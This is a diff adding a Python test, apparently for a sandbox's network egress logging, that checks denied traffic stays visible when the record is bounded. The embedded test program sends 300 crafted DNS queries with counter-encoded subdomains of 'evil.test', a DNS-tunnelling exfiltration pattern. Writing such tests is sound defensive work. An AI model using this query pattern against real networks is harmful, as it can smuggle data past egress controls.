@@ -207,3 +207,20 @@ say([slow, control()])
     slow, control = attack(program, service.outside(), service.port)[0]
     assert slow < 1
     assert control == WORD
+
+
+def test_denials_do_not_hide_what_was_reached(service: Service) -> None:
+    """The record is bounded; what falls out of it must not be what matters."""
+    program = """
+end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+end.connect(("198.18.0.1", 53))
+for number in range(300):
+    end.send(struct.pack("!6H", number, 256, 1, 0, 0, 0) + b"\\x08%08x\\4evil\\4test\\0\\0\\1\\0\\1" % number)
+    end.recv(512)
+say(control())
+"""
+    said, inside = attack(program, service.outside(), service.port)
+    assert said == WORD
+    found = {entry["destination"]: entry for entry in inside.network}
+    assert found["(others)"]["denied"] > 0, "the control: there were more than the record holds"
+    assert found[f"{CONTROL}:{service.port}"]["allowed"] == 1
